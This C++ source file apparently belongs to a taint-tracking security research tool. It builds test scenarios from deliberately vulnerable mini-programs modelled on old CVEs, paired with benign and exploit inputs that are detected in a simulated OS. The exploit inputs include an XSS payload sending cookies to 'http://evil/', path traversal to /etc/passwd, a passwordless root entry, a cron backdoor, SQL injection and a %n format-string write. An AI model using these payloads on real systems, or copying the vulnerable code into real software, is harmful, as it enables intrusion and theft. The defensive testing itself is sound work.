#include "attacks.hh"

#include "support/logging.hh"

namespace shift::workloads
{

namespace
{

PolicyConfig
policyWith(std::function<void(PolicyConfig &)> tweak)
{
    PolicyConfig policy; // low-level L1-L3 default on
    tweak(policy);
    return policy;
}

// ---------------------------------------------------------------------
// 1/2. Directory traversal in archive extractors (GNU Tar 1.4,
// CVE-2001-1267; GNU Gzip 1.2.4 -N, CVE-2005-1228). The archive member
// name comes from the (tainted) archive file and is passed to open()
// for writing; policy H1 rejects tainted absolute paths.
// ---------------------------------------------------------------------

const char *kTarSource = R"MC(
char arc[65536];
char name[256];

int main() {
    int fd = open("archive.tar", 0);
    if (fd < 0) return 1;
    int len = read(fd, arc, 65535);
    close(fd);
    int pos = 0;
    int extracted = 0;
    while (pos < len) {
        // member name line
        int i = 0;
        while (pos < len && arc[pos] != '\n') {
            name[i] = arc[pos];
            i++; pos++;
        }
        name[i] = 0;
        pos++;
        if (i == 0) break;
        // size line
        char numbuf[16];
        int j = 0;
        while (pos < len && arc[pos] != '\n') {
            numbuf[j] = arc[pos];
            j++; pos++;
        }
        numbuf[j] = 0;
        pos++;
        int size = atoi(numbuf);
        // no validation of `name`: the vulnerability
        int out = open(name, 1);
        if (out < 0) return 2;
        write(out, arc + pos, size);
        close(out);
        pos = pos + size;
        extracted++;
    }
    return 100 + extracted;
}
)MC";

const char *kGzipSource = R"MC(
char gz[65536];
char orig_name[256];

int main() {
    int fd = open("data.gz", 0);
    if (fd < 0) return 1;
    int len = read(fd, gz, 65535);
    close(fd);
    if (len < 3 || gz[0] != 'G' || gz[1] != 'Z') return 2;
    // gzip -N: restore the original file name stored in the header.
    int p = 2;
    int i = 0;
    while (p < len && gz[p] != 0) {
        orig_name[i] = gz[p];
        i++; p++;
    }
    orig_name[i] = 0;
    p++;
    int out = open(orig_name, 1);
    if (out < 0) return 3;
    write(out, gz + p, len - p);
    close(out);
    return 100;
}
)MC";

// ---------------------------------------------------------------------
// 3. Qwikiwiki 1.4.1 directory traversal (CVE-2006-0983 family). The
// requested page name is spliced into a path under the document root;
// policy H2 rejects tainted "..{/}" escapes.
// ---------------------------------------------------------------------

const char *kWikiSource = R"MC(
char req[1024];
char page[256];
char path[512];
char body[4096];
char resp[8192];

int main() {
    int served = 0;
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        // parse "GET /wiki?page=NAME "
        char *q = strstr(req, "page=");
        if (q) {
            int i = 0;
            q = q + 5;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                page[i] = q[i];
                i++;
            }
            page[i] = 0;
            strcpy(path, "/www/pages/");
            strcat(path, page);
            strcat(path, ".txt");
            int fd = open(path, 0);
            if (fd >= 0) {
                int m = read(fd, body, 4095);
                body[m] = 0;
                close(fd);
                strcpy(resp, "HTTP/1.0 200 OK\r\n\r\n");
                strcat(resp, body);
                send(conn, resp, strlen(resp));
                served++;
            } else {
                strcpy(resp, "HTTP/1.0 404 Not Found\r\n\r\n");
                send(conn, resp, strlen(resp));
            }
        }
        close(conn);
        conn = accept();
    }
    return 100 + served;
}
)MC";

// ---------------------------------------------------------------------
// 4/5/6. Cross-site scripting: Scry 1.1, php-stats 0.1.9.1b,
// phpsysinfo 2.3. Each echoes a request parameter into HTML without
// sanitization; H5 rejects tainted <script> tags reaching the client.
// ---------------------------------------------------------------------

const char *kScrySource = R"MC(
char req[1024];
char album[256];
char resp[4096];

int main() {
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        char *q = strstr(req, "album=");
        if (q) {
            int i = 0;
            q = q + 6;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                album[i] = q[i];
                i++;
            }
            album[i] = 0;
            sprintf(resp,
                "HTTP/1.0 200 OK\r\n\r\n<html><h1>Album: %s</h1></html>",
                album);
            send(conn, resp, strlen(resp));
        }
        close(conn);
        conn = accept();
    }
    return 100;
}
)MC";

const char *kPhpStatsSource = R"MC(
char req[1024];
char term[256];
char resp[4096];

int main() {
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        char *q = strstr(req, "search=");
        if (q) {
            int i = 0;
            q = q + 7;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                term[i] = q[i];
                i++;
            }
            term[i] = 0;
            strcpy(resp, "HTTP/1.0 200 OK\r\n\r\n");
            strcat(resp, "<html><body>Results for ");
            strcat(resp, term);
            strcat(resp, ": 0 hits</body></html>");
            send(conn, resp, strlen(resp));
        }
        close(conn);
        conn = accept();
    }
    return 100;
}
)MC";

const char *kPhpSysinfoSource = R"MC(
char req[1024];
char lang[256];
char tmpl[2048];
char resp[4096];

int main() {
    // Template comes from the server's own (clean) filesystem.
    int fd = open("/www/sysinfo.tmpl", 0);
    if (fd < 0) return 1;
    int t = read(fd, tmpl, 2047);
    tmpl[t] = 0;
    close(fd);

    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        char *q = strstr(req, "lang=");
        if (q) {
            int i = 0;
            q = q + 5;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                lang[i] = q[i];
                i++;
            }
            lang[i] = 0;
            // Substitute @LANG@ in the template with the raw parameter.
            char *slot = strstr(tmpl, "@LANG@");
            strcpy(resp, "HTTP/1.0 200 OK\r\n\r\n");
            if (slot) {
                long prefix = slot - tmpl;
                long base = strlen(resp);
                memcpy(resp + base, tmpl, prefix);
                resp[base + prefix] = 0;
                strcat(resp, lang);
                strcat(resp, slot + 6);
            } else {
                strcat(resp, tmpl);
            }
            send(conn, resp, strlen(resp));
        }
        close(conn);
        conn = accept();
    }
    return 100;
}
)MC";

// ---------------------------------------------------------------------
// 7. phpMyFAQ 1.6.8 SQL injection (CVE-2007-2284 family): the id
// parameter is concatenated into a query; H3 rejects tainted SQL
// metacharacters.
// ---------------------------------------------------------------------

const char *kPhpMyFaqSource = R"MC(
char req[1024];
char id[256];
char query[1024];
char resp[1024];

int main() {
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        char *q = strstr(req, "id=");
        if (q) {
            int i = 0;
            q = q + 3;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                id[i] = q[i];
                i++;
            }
            id[i] = 0;
            strcpy(query, "SELECT answer FROM faq WHERE id = '");
            strcat(query, id);
            strcat(query, "'");
            if (sql_exec(query) < 0) {
                close(conn);
                conn = accept();
                continue;
            }
            strcpy(resp, "HTTP/1.0 200 OK\r\n\r\nanswer");
            send(conn, resp, strlen(resp));
        }
        close(conn);
        conn = accept();
    }
    return 100;
}
)MC";

// ---------------------------------------------------------------------
// 8. Bftpd <= 0.96 format-string attack: user input reaches a printf-
// family format string; a "%n" conversion writes through an attacker-
// supplied pointer (the GOT entry of system() in the real exploit).
// The model reproduces the exact data flow: the store address is
// parsed out of tainted input, so policy L2 fires on the write.
// ---------------------------------------------------------------------

const char *kBftpdSource = R"MC(
char req[1024];

// Model of vsnprintf %n semantics: write the running count through a
// pointer taken from the argument area, which the exploit overlaps
// with attacker-controlled bytes.
int vlog(char *fmt) {
    long count = 0;
    long i = 0;
    while (fmt[i]) {
        if (fmt[i] == '%' && fmt[i + 1] == 'n') {
            long target = atoi(fmt + i + 2);
            long *p = (long*)target;
            *p = count;             // tainted address -> L2
            return 1;
        }
        count++;
        i++;
    }
    return 0;
}

int main() {
    int handled = 0;
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        // The vulnerability: user-controlled text used as the format.
        vlog(req);
        handled++;
        close(conn);
        conn = accept();
    }
    return 100 + handled;
}
)MC";

std::vector<AttackScenario>
buildScenarios()
{
    std::vector<AttackScenario> out;

    {
        AttackScenario s;
        s.name = "gnu-tar";
        s.cve = "CVE-2001-1267";
        s.program = "GNU Tar (1.4)";
        s.language = "C";
        s.attackType = "Directory Traversal";
        s.policies = "H1 + Low level policies";
        s.expectedPolicy = "H1";
        s.source = kTarSource;
        s.policy = policyWith([](PolicyConfig &p) { p.h1 = true; });
        // The extractor indexes the archive with offsets derived from
        // tainted size fields; an application-specific rule (paper
        // section 3.3.2) relaxes loads in main().
        s.relaxLoadFunctions = {"main"};
        s.setupBenign = [](Session &session) {
            session.os().addFile(
                "archive.tar", std::string("docs/readme.txt\n6\nhello\n"
                                           "notes.txt\n4\nabc\n\n"));
        };
        s.setupExploit = [](Session &session) {
            session.os().addFile(
                "archive.tar",
                std::string("/etc/passwd\n18\nroot::0:0:evil:/:\n\n"));
        };
        out.push_back(std::move(s));
    }

    {
        AttackScenario s;
        s.name = "gnu-gzip";
        s.cve = "CVE-2005-1228";
        s.program = "GNU Gzip (1.2.4)";
        s.language = "C";
        s.attackType = "Directory Traversal";
        s.policies = "H1 + Low level policies";
        s.expectedPolicy = "H1";
        s.source = kGzipSource;
        s.policy = policyWith([](PolicyConfig &p) { p.h1 = true; });
        s.setupBenign = [](Session &session) {
            std::string gz = "GZ";
            gz += "report.txt";
            gz.push_back('\0');
            gz += "contents of the report";
            session.os().addFile("data.gz", gz);
        };
        s.setupExploit = [](Session &session) {
            std::string gz = "GZ";
            gz += "/etc/cron.d/backdoor";
            gz.push_back('\0');
            gz += "* * * * * root /tmp/evil\n";
            session.os().addFile("data.gz", gz);
        };
        out.push_back(std::move(s));
    }

    {
        AttackScenario s;
        s.name = "qwikiwiki";
        s.cve = "CVE-2006-0983";
        s.program = "Qwikiwiki (1.4.1)";
        s.language = "PHP";
        s.attackType = "Directory Traversal";
        s.policies = "H2 + Low level policies";
        s.expectedPolicy = "H2";
        s.source = kWikiSource;
        s.policy = policyWith([](PolicyConfig &p) {
            p.h2 = true;
            p.taintFile = false; // the wiki's own pages are trusted
            p.docRoot = "/www";
        });
        auto addPages = [](Session &session) {
            session.os().addFile("/www/pages/home.txt",
                                 "Welcome to the wiki");
            session.os().addFile("/etc/passwd", "root:x:0:0::/:/bin/sh");
        };
        s.setupBenign = [addPages](Session &session) {
            addPages(session);
            session.os().queueConnection(
                "GET /wiki?page=home HTTP/1.0\r\n\r\n");
        };
        s.setupExploit = [addPages](Session &session) {
            addPages(session);
            session.os().queueConnection(
                "GET /wiki?page=../../../etc/passwd%00 HTTP/1.0\r\n\r\n");
        };
        out.push_back(std::move(s));
    }

    auto makeXss = [&](const char *name, const char *cve,
                       const char *program, const char *source,
                       const char *param,
                       std::function<void(Session &)> extra) {
        AttackScenario s;
        s.name = name;
        s.cve = cve;
        s.program = program;
        s.language = "PHP";
        s.attackType = "Cross Site Scripting";
        s.policies = "H5 + Low level policies";
        s.expectedPolicy = "H5";
        s.source = source;
        s.policy = policyWith([](PolicyConfig &p) {
            p.h5 = true;
            p.taintFile = false;
        });
        std::string benign = std::string("GET /page?") + param +
                             "=holiday HTTP/1.0\r\n\r\n";
        std::string exploit =
            std::string("GET /page?") + param +
            "=<script>document.location='http://evil/'+document.cookie"
            "</script> HTTP/1.0\r\n\r\n";
        s.setupBenign = [extra, benign](Session &session) {
            if (extra)
                extra(session);
            session.os().queueConnection(benign);
        };
        s.setupExploit = [extra, exploit](Session &session) {
            if (extra)
                extra(session);
            session.os().queueConnection(exploit);
        };
        out.push_back(std::move(s));
    };

    makeXss("scry", "CVE-2007-1584", "Scry (1.1)", kScrySource,
            "album", nullptr);
    makeXss("php-stats", "CVE-2007-1585", "php-stats (0.1.9.1b)",
            kPhpStatsSource, "search", nullptr);
    makeXss("phpsysinfo", "CVE-2005-0870", "phpSysInfo (2.3)",
            kPhpSysinfoSource, "lang", [](Session &session) {
                session.os().addFile(
                    "/www/sysinfo.tmpl",
                    "<html><body>System info (@LANG@)</body></html>");
            });

    {
        AttackScenario s;
        s.name = "phpmyfaq";
        s.cve = "CVE-2007-2284";
        s.program = "phpMyFAQ (1.6.8)";
        s.language = "PHP";
        s.attackType = "SQL Command Injection";
        s.policies = "H3 + Low level policies";
        s.expectedPolicy = "H3";
        s.source = kPhpMyFaqSource;
        s.policy = policyWith([](PolicyConfig &p) {
            p.h3 = true;
            p.taintFile = false;
        });
        s.setupBenign = [](Session &session) {
            session.os().queueConnection(
                "GET /faq?id=42 HTTP/1.0\r\n\r\n");
        };
        s.setupExploit = [](Session &session) {
            session.os().queueConnection(
                "GET /faq?id=0'+OR+'1'='1 HTTP/1.0\r\n\r\n");
        };
        out.push_back(std::move(s));
    }

    {
        AttackScenario s;
        s.name = "bftpd";
        s.cve = "N/A";
        s.program = "Bftpd (0.96 prior)";
        s.language = "C";
        s.attackType = "Format string attack";
        s.policies = "L2";
        s.expectedPolicy = "L2";
        s.source = kBftpdSource;
        s.policy = policyWith([](PolicyConfig &) {});
        s.setupBenign = [](Session &session) {
            session.os().queueConnection("USER alice\r\n");
            session.os().queueConnection("PASS hunter2\r\n");
        };
        s.setupExploit = [](Session &session) {
            // "%n" plus the (decimal) GOT address of system() — here
            // the program's first global, which is what a GOT slot is:
            // a writable word at a fixed data address.
            uint64_t got = session.machine().globalAddr("req");
            session.os().queueConnection(
                "USER %n" + std::to_string(got) + "AAAA\r\n");
        };
        out.push_back(std::move(s));
    }

    return out;
}

} // namespace

const std::vector<AttackScenario> &
attackScenarios()
{
    static const std::vector<AttackScenario> scenarios = buildScenarios();
    return scenarios;
}

AttackRun
runAttackScenario(const AttackScenario &scenario, bool exploit,
                  SessionOptions options)
{
    Granularity granularity = options.policy.granularity;
    options.policy = scenario.policy;
    options.policy.granularity = granularity;
    options.instr.relaxLoadFunctions = scenario.relaxLoadFunctions;

    Session session(scenario.source, std::move(options));
    if (exploit)
        scenario.setupExploit(session);
    else
        scenario.setupBenign(session);

    AttackRun run;
    run.result = session.run();
    if (exploit) {
        run.detected =
            run.result.killedByPolicy && !run.result.alerts.empty() &&
            run.result.alerts.back().policy == scenario.expectedPolicy;
    } else {
        run.falsePositive = !run.result.alerts.empty() ||
                            run.result.killedByPolicy ||
                            bool(run.result.fault);
    }
    return run;
}

const AttackScenario &
attackScenario(const std::string &name)
{
    for (const AttackScenario &s : attackScenarios()) {
        if (s.name == name)
            return s;
    }
    SHIFT_FATAL("no attack scenario named '%s'", name.c_str());
}

} // namespace shift::workloads
